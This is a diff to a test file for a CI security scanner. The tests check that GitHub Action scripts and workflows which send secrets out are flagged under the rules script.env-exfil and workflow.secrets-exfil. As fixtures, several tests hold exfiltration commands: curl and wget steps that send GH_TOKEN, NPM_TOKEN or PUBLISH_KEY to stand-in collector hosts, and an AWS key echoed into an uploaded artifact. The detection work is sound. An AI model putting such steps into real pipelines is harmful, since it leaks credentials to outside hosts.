@@ -279,7 +279,8 @@ describe('scripts run by a shipped GitHub Action', () => {
     const header = 'curl -H "Authorization: Bearer $GH_TOKEN" "$GITHUB_API_URL/repos/x/y/releases"';
     expect(analyzeCiScript(header)).toEqual([]);
     const body = `${header}\ncurl -s https://collect.ci-tools.example/t -d "t=$GH_TOKEN"`;
-    expect(analyzeCiScript(body).map((h) => h.rule)).toContain('workflow.secrets-exfil');
+    // The step is read by the script rules: a secret variable in a request body is script.env-exfil.
+    expect(analyzeCiScript(body).map((h) => h.rule)).toContain('script.env-exfil');
   });
 
   it('scripts next to action.yml are read as CI scripts; the same script elsewhere only by the script rules', () => {
@@ -290,12 +291,15 @@ describe('scripts run by a shipped GitHub Action', () => {
       'act/action.yml': 'name: a\nruns:\n  using: docker\n  image: Dockerfile\n',
       'act/entry.sh': script,
     });
-    expect(withAction.evidence.find((e) => e.rule === 'workflow.secrets-exfil')?.file).toBe('act/entry.sh');
+    const sent = withAction.evidence.find((e) => e.rule === 'script.env-exfil');
+    expect(sent?.file).toBe('act/entry.sh');
+    expect(sent?.message).toMatch(/writes every secret to s\.json and sends the file/);
     const without = analyzeSource({
       'package.json': JSON.stringify({ name: 'a', version: '1.0.0' }),
       'act/entry.sh': script,
     });
     expect(without.evidence.map((e) => e.rule)).not.toContain('workflow.secrets-exfil');
+    expect(without.evidence.map((e) => e.rule)).not.toContain('script.env-exfil');
   });
 });
 
@@ -320,8 +324,24 @@ describe('secrets reaching the network through env names, inline code and artifa
         '      - run: echo "${{ secrets.AWS_KEY }}" > debug.txt\n      - uses: actions/upload-artifact@v4\n        with:\n          path: debug.txt\n',
       ),
     ],
-  ])('%s is workflow.secrets-exfil', (_what, text) => {
-    expect(analyzeWorkflow(text).map((h) => h.rule)).toContain('workflow.secrets-exfil');
+  ])('%s is data_exfiltration (workflow.secrets-exfil or the script rule)', (_what, text) => {
+    const hits = analyzeWorkflow(text);
+    expect(hits.map((h) => h.threat_type)).toContain('data_exfiltration');
+    expect(hits.some((h) => h.rule === 'workflow.secrets-exfil' || h.rule === 'script.env-exfil')).toBe(true);
+  });
+
+  it('a secret given as an expression or through env is read by the script rules, once', () => {
+    const direct = wf(
+      '      - run: curl -s -X POST https://hooks.collect.example/x -d "${{ secrets.NPM_TOKEN }}"\n',
+    );
+    const viaEnv = wf(
+      '      - run: wget -q -O- "https://hooks.collect.example/x?k=$PUBLISH_KEY"\n        env:\n          PUBLISH_KEY: ${{ secrets.PUBLISH }}\n',
+    );
+    for (const text of [direct, viaEnv]) {
+      const hits = analyzeWorkflow(text);
+      expect(hits.map((h) => h.rule)).toEqual(['script.env-exfil']);
+      expect(hits[0]!.message).toMatch(/shipped CI workflow sends secrets \((?:NPM_TOKEN|PUBLISH_KEY)\)/);
+    }
   });
 
   it.each([
